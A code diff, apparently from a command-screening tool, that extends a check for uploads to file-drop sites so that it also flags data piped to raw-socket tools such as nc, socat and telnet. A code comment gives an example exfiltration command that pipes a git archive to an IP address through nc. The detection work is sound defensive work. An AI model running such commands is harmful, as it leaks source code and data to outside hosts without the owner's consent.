@@ -1613,9 +1613,10 @@ const DROP_SITES: &[&str] = &[
     "envs.sh",
 ];
 
-/// The drop site an upload goes to, when the command sends data (a file, its stdin or a body).
+/// The drop site or raw socket an upload goes to, when the command sends data (a file, its
+/// stdin or a body).
 fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
-    let site = sink
+    let drop = sink
         .payload
         .iter()
         .filter_map(|w| url_host(&w.text))
@@ -1623,7 +1624,20 @@ fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
             DROP_SITES
                 .iter()
                 .any(|d| h == d || h.ends_with(&format!(".{d}")))
-        })?;
+        });
+    // A raw socket (`git archive HEAD | nc 198.51.100.5 9000`) is no way to share code either.
+    let raw = matches!(
+        cmd.name(),
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "cryptcat"
+    )
+    .then(|| {
+        cmd.args()
+            .iter()
+            .find(|a| !a.text.starts_with('-') && !a.text.contains(':'))
+            .map(|h| format!("a raw socket to {}", h.text))
+    })
+    .flatten();
+    let site = drop.or(raw)?;
     let piped = !cmd.pipes.is_empty() && cmd.stdin_text.is_none() && !ignores_stdin(cmd);
     let sends_body = cmd.args().iter().any(|a| {
         let opt = a.text.split('=').next().unwrap_or("");
